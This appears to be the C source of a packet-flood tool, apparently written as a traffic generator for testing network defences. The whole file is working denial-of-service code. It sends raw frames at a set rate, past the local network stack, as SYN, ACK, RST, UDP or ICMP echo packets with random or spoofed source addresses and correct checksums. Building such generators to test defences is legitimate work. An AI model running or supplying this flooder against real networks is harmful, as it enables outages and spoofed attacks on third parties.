/* SPDX-License-Identifier: Apache-2.0 */
/*
 * An attacker: many small packets a second, with whatever addresses it likes.
 *
 *   flood DEVICE NEXT_HOP_MAC PACKETS_PER_SECOND SECONDS SHAPE...
 *
 * A shape is KIND,SOURCE,DESTINATION,SOURCE_PORTS,DESTINATION_PORTS,HOPS: kind is syn, ack, rst,
 * udp or echo; an address may be a prefix, whose other bits are by chance, and ports are FIRST-LAST
 * (an echo's are identifiers and sequence numbers). Shapes take turns. Checksums are right: what is
 * refused is to be refused for what it says.
 *
 * Frames leave by AF_PACKET, past this machine's own stack. At the end it prints "SENT REFUSED
 * NANOSECONDS"; refused is what the device had no room for. What cannot be sent in time is left
 * out, so the rate is what was sent, never a burst that makes up for it.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum {
	BATCH = 32,
	FRAME_MAX = 128,
	SHAPES_MAX = 64,
	LATE_MAX_NS = 20000000, /* what is later than this is left out */
	TCP_WINDOW = 64240,
	TCP_SYN = 2,
	TCP_RST = 4,
	TCP_ACK = 16,
	ECHO_4 = 8,
	ECHO_6 = 128,
};

struct prefix {
	uint8_t octets[16];
	uint8_t bits;
};

struct range {
	uint32_t first, last;
};

struct shape {
	uint8_t protocol;
	uint8_t tcp_flags;
	uint8_t hops;
	bool is_v6;
	struct prefix source, destination;
	struct range source_ports, destination_ports;
};

struct attack {
	struct sockaddr_ll device;
	uint8_t source_mac[6];
	struct shape shapes[SHAPES_MAX];
	unsigned int shape_count;
	uint64_t sent, refused;
};

__attribute__((noreturn)) static void fail(const char *what)
{
	fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static uint64_t now_ns(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (uint64_t)now.tv_sec * 1000000000u + (uint64_t)now.tv_nsec;
}

/* xorshift64*: chance that costs nothing. */
static uint32_t by_chance(void)
{
	static uint64_t state;

	if (!state)
		state = now_ns() | 1;
	state ^= state >> 12;
	state ^= state << 25;
	state ^= state >> 27;
	return (state * 0x2545f4914f6cdd1dULL) >> 32;
}

static uint16_t port_of(const struct range *range)
{
	return range->first + by_chance() % (range->last - range->first + 1);
}

static void put_16(uint8_t *at, uint16_t value)
{
	at[0] = value >> 8;
	at[1] = value;
}

static uint32_t sum_of(const uint8_t *octets, size_t length, uint32_t sum)
{
	for (size_t i = 0; i + 1 < length; i += 2)
		sum += (uint32_t)octets[i] << 8 | octets[i + 1];
	return sum;
}

static uint16_t folded(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

static void put_address(uint8_t *at, const struct prefix *prefix, unsigned int length)
{
	memcpy(at, prefix->octets, length);
	for (unsigned int bit = prefix->bits; bit < length * 8; bit++)
		if (by_chance() & 1)
			at[bit / 8] ^= 0x80 >> bit % 8;
}

/* The transport header at `at`; its length. Its checksum is zero still. */
static unsigned int put_transport(uint8_t *at, const struct shape *shape)
{
	uint16_t source = port_of(&shape->source_ports);
	uint16_t destination = port_of(&shape->destination_ports);

	switch (shape->protocol) {
	case IPPROTO_TCP:
		put_16(at, source);
		put_16(at + 2, destination);
		put_16(at + 4, by_chance());
		put_16(at + 6, by_chance());
		put_16(at + 8, by_chance());
		at[12] = 5 << 4;
		at[13] = shape->tcp_flags;
		put_16(at + 14, TCP_WINDOW);
		return 20;
	case IPPROTO_UDP:
		put_16(at, source);
		put_16(at + 2, destination);
		put_16(at + 4, 16);
		return 16;
	default:
		at[0] = shape->is_v6 ? ECHO_6 : ECHO_4;
		put_16(at + 4, source);
		put_16(at + 6, destination);
		return 16;
	}
}

static void put_checksum(uint8_t *transport, unsigned int length, const uint8_t *addresses,
			 const struct shape *shape)
{
	static const uint8_t at[256] = {
		[IPPROTO_TCP] = 16, [IPPROTO_UDP] = 6, [IPPROTO_ICMP] = 2, [IPPROTO_ICMPV6] = 2};
	uint32_t sum = 0;

	if (shape->protocol != IPPROTO_ICMP)
		sum = sum_of(addresses, shape->is_v6 ? 32 : 8, shape->protocol + length);
	put_16(transport + at[shape->protocol], folded(sum_of(transport, length, sum)));
}

/* A frame of `shape`; its length. */
static size_t make_frame(uint8_t *frame, const struct attack *attack, const struct shape *shape)
{
	unsigned int header = shape->is_v6 ? 40 : 20, width = shape->is_v6 ? 16 : 4;
	uint8_t *ip = frame + ETH_HLEN, *addresses = ip + (shape->is_v6 ? 8 : 12);
	unsigned int length;

	memset(frame, 0, FRAME_MAX);
	memcpy(frame, attack->device.sll_addr, 6);
	memcpy(frame + 6, attack->source_mac, 6);
	put_16(frame + 12, shape->is_v6 ? ETHERTYPE_IPV6 : ETHERTYPE_IP);
	put_address(addresses, &shape->source, width);
	put_address(addresses + width, &shape->destination, width);
	length = put_transport(ip + header, shape);
	put_checksum(ip + header, length, addresses, shape);
	if (shape->is_v6) {
		ip[0] = 6 << 4;
		put_16(ip + 4, length);
		ip[6] = shape->protocol;
		ip[7] = shape->hops;
	} else {
		ip[0] = 4 << 4 | 5;
		put_16(ip + 2, header + length);
		put_16(ip + 4, by_chance());
		ip[8] = shape->hops;
		ip[9] = shape->protocol;
		put_16(ip + 10, folded(sum_of(ip, header, 0)));
	}
	return ETH_HLEN + header + length;
}

static void parse_prefix(char *text, struct prefix *prefix, bool *is_v6)
{
	char *slash = strchr(text, '/');

	*is_v6 = strchr(text, ':');
	if (slash)
		*slash = 0;
	if (inet_pton(*is_v6 ? AF_INET6 : AF_INET, text, prefix->octets) != 1)
		fail(text);
	prefix->bits = slash ? atoi(slash + 1) : 128;
}

static void parse_range(const char *text, struct range *range)
{
	int found = sscanf(text, "%u-%u", &range->first, &range->last);

	if (found < 1)
		fail(text);
	if (found < 2)
		range->last = range->first;
}

static void parse_kind(const char *word, struct shape *shape)
{
	shape->protocol = IPPROTO_TCP;
	if (!strcmp(word, "syn"))
		shape->tcp_flags = TCP_SYN;
	else if (!strcmp(word, "ack"))
		shape->tcp_flags = TCP_ACK;
	else if (!strcmp(word, "rst"))
		shape->tcp_flags = TCP_RST;
	else if (!strcmp(word, "udp"))
		shape->protocol = IPPROTO_UDP;
	else if (!strcmp(word, "echo"))
		shape->protocol = shape->is_v6 ? IPPROTO_ICMPV6 : IPPROTO_ICMP;
	else
		fail(word);
}

static void parse_shape(char *text, struct shape *shape)
{
	char *words[6];

	for (unsigned int i = 0; i < 6; i++) {
		words[i] = strsep(&text, ",");
		if (!words[i])
			fail("a shape has six words");
	}
	parse_prefix(words[1], &shape->source, &shape->is_v6);
	parse_prefix(words[2], &shape->destination, &shape->is_v6);
	parse_range(words[3], &shape->source_ports);
	parse_range(words[4], &shape->destination_ports);
	shape->hops = atoi(words[5]);
	parse_kind(words[0], shape);
}

static int open_device(struct attack *attack, const char *name, const char *next_hop)
{
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	socklen_t length = sizeof(attack->device);
	int one = 1;

	attack->device.sll_family = AF_PACKET;
	attack->device.sll_ifindex = if_nametoindex(name);
	if (fd < 0 || bind(fd, (struct sockaddr *)&attack->device, sizeof(attack->device)) ||
	    getsockname(fd, (struct sockaddr *)&attack->device, &length) ||
	    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)))
		fail(name);
	memcpy(attack->source_mac, attack->device.sll_addr, 6);
	attack->device.sll_halen = 6;
	for (unsigned int i = 0; i < 6; i++)
		attack->device.sll_addr[i] = strtoul(next_hop + 3 * i, NULL, 16);
	return fd;
}

static void send_batch(int fd, struct attack *attack)
{
	static uint8_t frames[BATCH][FRAME_MAX];
	static unsigned int turn;
	struct mmsghdr messages[BATCH] = {};
	struct iovec vectors[BATCH];
	int done;

	for (unsigned int i = 0; i < BATCH; i++) {
		vectors[i].iov_base = frames[i];
		vectors[i].iov_len = make_frame(frames[i], attack,
						&attack->shapes[turn++ % attack->shape_count]);
		messages[i].msg_hdr.msg_iov = &vectors[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	for (unsigned int from = 0; from < BATCH; from += done) {
		done = sendmmsg(fd, messages + from, BATCH - from, 0);
		if (done < 0 && errno != ENOBUFS)
			fail("sendmmsg");
		if (done < 0)
			done = 0;
		attack->sent += done;
		if (from + done < BATCH && ++done) /* the one behind those that were sent */
			attack->refused++;
	}
}

int main(int argc, char **argv)
{
	static struct attack attack;
	uint64_t begin, due, end, gap;
	int fd;

	if (argc < 6 || argc - 5 > SHAPES_MAX)
		fail("flood DEVICE NEXT_HOP_MAC PACKETS_PER_SECOND SECONDS SHAPE...");
	for (int i = 5; i < argc; i++)
		parse_shape(argv[i], &attack.shapes[attack.shape_count++]);
	fd = open_device(&attack, argv[1], argv[2]);
	gap = 1000000000ULL * BATCH / strtoull(argv[3], NULL, 10);
	begin = due = now_ns();
	end = begin + 1000000000ULL * strtoull(argv[4], NULL, 10);
	while (due < end) {
		uint64_t now = now_ns();
		struct timespec until = {due / 1000000000u, due % 1000000000u};

		if (now < due)
			clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &until, NULL);
		else if (now > due + LATE_MAX_NS)
			due = now;
		send_batch(fd, &attack);
		due += gap;
	}
	printf("%llu %llu %llu\n", (unsigned long long)attack.sent,
	       (unsigned long long)attack.refused, (unsigned long long)(now_ns() - begin));
	return 0;
}
